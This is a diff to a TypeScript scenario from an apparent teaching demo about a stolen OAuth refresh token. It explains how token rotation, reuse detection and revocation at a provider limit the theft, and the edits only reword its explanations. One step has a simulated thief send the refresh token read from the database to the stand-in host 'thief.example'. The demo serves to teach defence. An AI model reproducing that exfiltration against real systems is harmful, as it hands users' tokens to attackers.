@@ -10,7 +10,7 @@ const isNoticed = rotates && detectsReuse;
 export default defineScenario({
   title: "A stolen refresh token",
   summary:
-    "A thief gets a backup of the server, with Alice's refresh token in it. How long does the token work for them?",
+    "A backup of the server gets into wrong hands, with Alice's refresh token in it. How long does it work for the thief?",
   knobs: [
     { name: "rotates", file: "settings.ts", label: "Acme ID rotates refresh tokens" },
     { name: "detectsReuse", file: "settings.ts", label: "and detects reuse" },
@@ -37,7 +37,7 @@ export default defineScenario({
   steps: [
     {
       caption: "Alice signs in",
-      why: "All tokens that Acme ID issues for this consent are one family. Auth.js stores the refresh token in the account's row, in plain text.",
+      why: "The tokens that Acme ID issues for this consent are one family. The account's row holds the refresh token in plain text, as Auth.js stores it.",
       async act({ alice, acme }) {
         await alice.opens("/auth/signin?callbackUrl=/auth/csrf");
         await alice.clicks("Sign in with Acme ID");
@@ -51,8 +51,8 @@ export default defineScenario({
     {
       caption: "A thief uses the token before the app does",
       why: rotates
-        ? "The thief gets an access token, reads her profile, and has the next refresh token. The app's token is used up, and the app does not know yet."
-        : "The thief gets an access token and reads her profile. The refresh token stays the same, and works for both.",
+        ? "He gets an access token, reads her profile, and holds the next refresh token. The app's token is used up, and the app does not know it yet."
+        : "He gets an access token and reads her profile. The refresh token stays as it is, and works for both of them.",
       act: ({ thief, database }) =>
         thief.opens(
           `https://thief.example/?token=${String(database.rows("account")[0]?.refresh_token)}`,
@@ -62,10 +62,10 @@ export default defineScenario({
     {
       caption: "Alice comes back, and the app uses it, too",
       why: isNoticed
-        ? "Acme ID sees a used refresh token again: a sign of theft, though it cannot tell which of the two is the thief. It refuses, and revokes the whole family."
+        ? "Acme ID gets a used refresh token again. It takes that for a theft, and cannot know which of the two is the thief. It refuses, and revokes the whole family."
         : rotates
-          ? "The app's token was used before, so Acme ID refuses it, and does nothing else. The honest user is locked out, and the thief is not."
-          : "The token works for the app as it did for the thief. Nobody notices anything.",
+          ? "The token has been used, so Acme ID refuses the app, and does nothing else. Alice's app is locked out, and the thief is not."
+          : "It works for the app as it did for the thief. Nobody notices the theft.",
       act: ({ alice }) => alice.opens("/"),
       expect: ({ alice }) =>
         alice.sees(rotates ? "Acme ID refuses" : "Acme ID has given the app a new access token."),
@@ -73,14 +73,14 @@ export default defineScenario({
     {
       caption: "The thief tries again",
       why: isNoticed
-        ? "The thief's token belongs to the same family, and is revoked. The theft lasted until Alice came back."
-        : "The thief's token still works, until it expires or the provider revokes it.",
+        ? "His token belongs to the same family and is revoked, too. The theft ended when Alice came back."
+        : "It works until the refresh token expires, or until somebody revokes it.",
       act: ({ thief }) => thief.opens("https://thief.example/"),
       expect: ({ thief }) => thief.sees(isNoticed ? "Refused" : "Stolen: alice@mail.example"),
     },
     {
       caption: "Her tokens are revoked at Acme ID",
-      why: "A user can sign out everywhere at the provider, or an operator can report the leak to it. Both revoke all tokens. Change the client secret as well: it was in the same backup.",
+      why: "Alice can sign out everywhere at Acme ID, or the operator of the app can report the leak. Both end all of her tokens. Change the client's secret as well, because it was in the same backup.",
       async act({ acme, thief }) {
         acme.revokesTokens();
         await thief.opens("https://thief.example/");
